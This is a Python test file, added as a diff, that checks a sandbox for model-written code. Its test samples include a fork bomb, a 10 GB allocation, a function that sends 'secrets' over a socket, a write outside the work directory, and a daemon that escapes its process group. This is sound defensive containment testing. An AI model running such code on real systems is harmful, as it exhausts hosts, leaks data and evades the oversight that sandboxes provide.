@@ -1,0 +1,230 @@
+"""Model-written code under test that misbehaves is stopped by the sandbox and scored as a failure, and
+the host is unharmed.
+
+Safety first: the fork bomb and the 10 GB allocation only run after a harmless probe has shown that the
+limit that stops them is really enforced on this machine (as root, RLIMIT_NPROC is not; a probe that
+could fork past the limit skips the bomb with the reason).
+"""
+
+from __future__ import annotations
+
+import os
+import socket
+import sys
+import textwrap
+import threading
+from pathlib import Path
+
+import pytest
+
+from hooks.sandbox import Limits, run_limited
+from hooks.settings import HooksSettings
+from hooks.verifier import Verifier
+
+PROBE_CHILDREN = 40
+PROBE_LIMIT = 16
+
+
+@pytest.fixture(autouse=True)
+def _plain_inner_pytest(monkeypatch):
+    """The inner pytest needs none of this venv's plugins (they cost seconds to import)."""
+    monkeypatch.setenv("PYTEST_DISABLE_PLUGIN_AUTOLOAD", "1")
+
+
+def _repo(tmp_path: Path, solution: str, test: str) -> Path:
+    repo = tmp_path / "repo"
+    repo.mkdir()
+    (repo / "solution.py").write_text(textwrap.dedent(solution), encoding="utf-8")
+    (repo / "test_solution.py").write_text(textwrap.dedent(test), encoding="utf-8")
+    return repo
+
+
+def _verify(repo: Path, **limits):
+    settings = HooksSettings(**{"test_timeout_s": 20.0, "memory_mb": 1024, "max_processes": 256, **limits})
+    changed = [repo / "solution.py", repo / "test_solution.py"]
+    return Verifier(settings).verify(repo, changed, dimension="code_generation", completed=True)
+
+
+def _assert_failed(verification) -> None:
+    assert verification.signals["tests"] == 0.0, verification.details
+    assert verification.confidence < 0.5, verification
+
+
+def _alive(pid: int) -> bool:
+    try:
+        os.kill(pid, 0)
+    except ProcessLookupError:
+        return False
+    stat = Path(f"/proc/{pid}/stat")
+    return not (stat.exists() and stat.read_text().split(")")[-1].split()[0] == "Z")
+
+
+def _group_members(pgid: int) -> list[int]:
+    members = []
+    for entry in Path("/proc").iterdir():
+        if entry.name.isdigit():
+            try:
+                fields = (entry / "stat").read_text().rsplit(")", 1)[1].split()
+            except OSError:
+                continue
+            if int(fields[2]) == pgid and fields[0] != "Z":
+                members.append(int(entry.name))
+    return members
+
+
+def test_well_behaved_code_passes(tmp_path):
+    """The control: the same machinery scores honest code as a success (so the failures below mean something)."""
+    repo = _repo(tmp_path, "def add(a, b):\n    return a + b\n",
+                 "from solution import add\n\ndef test_add():\n    assert add(2, 3) == 5\n")
+    verification = _verify(repo)
+    assert verification.signals["tests"] == 1.0 and verification.confidence > 0.9, verification.details
+
+
+def test_infinite_loop_is_stopped(tmp_path):
+    repo = _repo(tmp_path, """
+        import os
+        from pathlib import Path
+
+        def spin():
+            Path("pid").write_text(str(os.getpid()))
+            while True:
+                pass
+        """, "from solution import spin\n\ndef test_spin():\n    spin()\n")
+    verification = _verify(repo, test_timeout_s=3.0)
+    _assert_failed(verification)
+    assert verification.details["tests"]["timed_out"] is True
+    assert verification.details["tests"]["duration_s"] < 15
+    assert not _alive(int((repo / "pid").read_text()))
+
+
+def _probe_process_limit(tmp_path: Path) -> tuple[int, dict]:
+    """How many of PROBE_CHILDREN sleeping children a sandboxed process may start under PROBE_LIMIT."""
+    probe = tmp_path / "probe.py"
+    probe.write_text(textwrap.dedent(f"""
+        import os, time
+        started = 0
+        for _ in range({PROBE_CHILDREN}):
+            try:
+                if os.fork() == 0:
+                    time.sleep(3)
+                    os._exit(0)
+            except OSError:
+                break
+            started += 1
+        print(started)
+        """), encoding="utf-8")
+    result = run_limited([sys.executable, str(probe)], tmp_path, Limits(timeout_s=20, max_processes=PROBE_LIMIT))
+    return int(result.stdout.strip() or PROBE_CHILDREN), result.isolation
+
+
+@pytest.mark.slow
+def test_fork_bomb_is_contained(tmp_path):
+    started, isolation = _probe_process_limit(tmp_path)
+    if started >= PROBE_CHILDREN:
+        pytest.skip(f"the sandbox cannot enforce a process limit here (probe started {started} processes under "
+                    f"a limit of {PROBE_LIMIT}; isolation {isolation}): as root RLIMIT_NPROC is not enforced "
+                    "and no cgroup pids limit was available, so the fork bomb is not run")
+    repo = _repo(tmp_path, """
+        import os
+        from pathlib import Path
+
+        def bomb():
+            Path("pgid").write_text(str(os.getpgid(0)))
+            while True:
+                try:
+                    os.fork()
+                except OSError:
+                    pass
+        """, "from solution import bomb\n\ndef test_bomb():\n    bomb()\n")
+    verification = _verify(repo, test_timeout_s=5.0, max_processes=64)
+    _assert_failed(verification)
+    assert _group_members(int((repo / "pgid").read_text())) == []
+
+
+@pytest.mark.slow
+def test_ten_gigabytes_are_refused(tmp_path):
+    probe = run_limited([sys.executable, "-c", "bytearray(512 * 1024 * 1024)"], tmp_path,
+                        Limits(timeout_s=20, memory_mb=256))
+    if probe.returncode == 0:
+        pytest.skip(f"the sandbox cannot enforce a memory limit here (isolation {probe.isolation}); "
+                    "the 10 GB allocation is not run")
+    repo = _repo(tmp_path, "def hog():\n    return bytearray(10 * 1024 ** 3)\n",
+                 "from solution import hog\n\ndef test_hog():\n    assert len(hog()) == 10 * 1024 ** 3\n")
+    verification = _verify(repo, memory_mb=1024)
+    _assert_failed(verification)
+    assert "MemoryError" in verification.details["tests"].get("output_tail", "")
+
+
+def test_socket_to_the_host_is_cut(tmp_path):
+    with socket.create_server(("127.0.0.1", 0)) as server:
+        port = server.getsockname()[1]
+        server.settimeout(0.2)
+        accepted: list[tuple] = []
+        stop = threading.Event()
+
+        def accept() -> None:
+            while not stop.is_set():
+                try:
+                    conn, peer = server.accept()
+                except TimeoutError:
+                    continue
+                accepted.append(peer)
+                conn.close()
+
+        listener = threading.Thread(target=accept, daemon=True)
+        listener.start()
+        repo = _repo(tmp_path, f"""
+            import socket
+
+            def phone_home():
+                with socket.create_connection(("127.0.0.1", {port}), timeout=3) as conn:
+                    conn.sendall(b"secrets")
+                return True
+            """, "from solution import phone_home\n\ndef test_phone_home():\n    assert phone_home()\n")
+        verification = _verify(repo)
+        stop.set()
+        listener.join()
+    if verification.details["tests"]["isolation"]["network"] == "none":
+        pytest.skip("no network namespace can be created here (unshare unavailable)")
+    _assert_failed(verification)
+    assert accepted == []
+
+
+def test_write_outside_the_work_dir_is_refused(tmp_path):
+    outside = tmp_path / "outside" / "owned.txt"
+    outside.parent.mkdir()
+    repo = _repo(tmp_path, f"""
+        from pathlib import Path
+
+        def escape():
+            Path({str(outside)!r}).write_text("pwned")
+            return True
+        """, "from solution import escape\n\ndef test_escape():\n    assert escape()\n")
+    verification = _verify(repo)
+    assert not outside.exists(), "model code wrote outside its work dir"
+    _assert_failed(verification)
+
+
+def test_a_daemon_that_escapes_the_process_group_is_stopped(tmp_path):
+    """setsid() leaves the process group the timeout kills; the sandbox must still stop it."""
+    repo = _repo(tmp_path, """
+        import os, time
+        from pathlib import Path
+
+        def daemonize():
+            if os.fork() == 0:
+                os.setsid()
+                if os.fork() == 0:
+                    Path("daemon.pid").write_text(str(os.getpid()))
+                    while True:
+                        time.sleep(0.1)
+                os._exit(0)
+            while not Path("daemon.pid").exists():
+                time.sleep(0.01)
+            while True:
+                time.sleep(0.1)
+        """, "from solution import daemonize\n\ndef test_daemonize():\n    daemonize()\n")
+    verification = _verify(repo, test_timeout_s=3.0)
+    _assert_failed(verification)
+    text = (repo / "daemon.pid").read_text()
+    assert not _alive(int(text)), "a process the model started outlived the sandbox"
